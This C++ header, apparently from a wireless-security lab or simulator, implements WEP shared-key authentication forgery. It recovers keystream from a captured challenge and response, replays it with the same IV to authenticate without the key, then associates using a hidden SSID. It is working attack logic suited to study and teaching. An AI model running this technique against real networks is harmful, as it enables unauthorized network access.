#pragma once

#include <map>
#include <optional>
#include <string>

#include "wavelab/attacks/hidden_ssid.hpp"
#include "wavelab/capture.hpp"
#include "wavelab/oracle.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

struct Handshake {
  Mac bssid;
  Mac station;
  Bytes challenge;
  WepEnvelope response;
  bool succeeded = false;
};

/// Finds a clear challenge and the sealed answer to it. Handshakes the AP
/// confirmed with AuthResult(success) are preferred.
inline std::optional<Handshake> find_handshake(const Capture& capture, const Mac& bssid) {
  std::map<Mac, Bytes> challenges;
  std::optional<Handshake> candidate;
  std::optional<Handshake> best;
  for (const auto& r : capture) {
    const Frame& f = r.frame;
    if (f.bssid != bssid) continue;
    if (f.ftype == FrameType::AuthChallenge && f.src == bssid && !f.is_wep()) {
      challenges[f.dst] = f.clear();
    } else if (f.ftype == FrameType::AuthResponse && f.dst == bssid && f.is_wep()) {
      auto it = challenges.find(f.src);
      if (it != challenges.end() && it->second.size() + 4 == f.wep().ciphertext.size())
        candidate = Handshake{bssid, f.src, it->second, f.wep(), false};
    } else if (f.ftype == FrameType::AuthResult && f.src == bssid && candidate && f.dst == candidate->station) {
      bool ok = !f.is_wep() && !f.clear().empty() && f.clear()[0] == status::kSuccess;
      if (ok && !best) {
        best = candidate;
        best->succeeded = true;
      }
      if (!ok) candidate.reset();
    }
  }
  if (best) return best;
  return candidate;
}

/// keystream = (challenge || ICV(challenge)) XOR sealed response.
inline Keystream keystream_from_handshake(const Handshake& h) {
  return Keystream{h.response.iv, xor_bytes(with_icv(h.challenge), h.response.ciphertext)};
}

struct ForgeResult {
  bool authenticated = false;
  bool associated = false;
  Mac mac;
  Keystream keystream;
  std::uint8_t key_id = 0;
  std::size_t injections = 0;
};

/// Authenticates to target_bssid without the key by answering a fresh
/// challenge with the keystream lifted from one observed handshake, reusing
/// its IV. Then associates, if the network name is known from the capture.
inline ForgeResult forge_shared_key_auth(const Capture& capture, Oracle& oracle, const Mac& target_bssid) {
  auto hs = find_handshake(capture, target_bssid);
  if (!hs) throw Error(ErrorKind::InsufficientCapture, "no shared-key handshake observed for " + target_bssid.str());
  ForgeResult out;
  out.mac = oracle.mac();
  out.keystream = keystream_from_handshake(*hs);
  out.key_id = hs->response.key_id;

  auto to_ap = [&](FrameType t) {
    Frame f;
    f.ftype = t;
    f.src = oracle.mac();
    f.dst = target_bssid;
    f.bssid = target_bssid;
    f.body = Bytes{};
    return f;
  };
  auto from_ap = [&](const Frame& f, FrameType t) {
    return f.ftype == t && f.src == target_bssid && f.dst == oracle.mac();
  };
  auto status_ok = [](const Frame& f) {
    return !f.is_wep() && !f.clear().empty() && f.clear()[0] == status::kSuccess;
  };

  std::optional<Bytes> challenge;
  ++out.injections;
  for (const auto& f : oracle.exchange(to_ap(FrameType::AuthRequest))) {
    if (from_ap(f, FrameType::AuthChallenge) && !f.is_wep()) challenge = f.clear();
    if (from_ap(f, FrameType::AuthResult)) out.authenticated = status_ok(f);
  }
  if (!challenge) return out;  // open network or ACL rejection
  if (challenge->size() + 4 > out.keystream.bytes.size())
    throw Error(ErrorKind::ChallengeTooLong, "challenge longer than the recovered keystream");

  Frame resp = to_ap(FrameType::AuthResponse);
  resp.flags = flags::kPrivacy;
  resp.body = seal_with_keystream(out.keystream.iv, out.key_id, out.keystream.bytes, *challenge);
  ++out.injections;
  for (const auto& f : oracle.exchange(std::move(resp)))
    if (from_ap(f, FrameType::AuthResult)) out.authenticated = status_ok(f);
  if (!out.authenticated) return out;

  std::string ssid;
  try {
    ssid = reveal_hidden_ssid(capture, target_bssid);
  } catch (const Error&) {
    return out;
  }
  Frame assoc = to_ap(FrameType::AssocRequest);
  assoc.ssid = ssid;
  ++out.injections;
  for (const auto& f : oracle.exchange(std::move(assoc)))
    if (from_ap(f, FrameType::AssocResponse)) out.associated = status_ok(f);
  return out;
}

}  // namespace wavelab::attacks
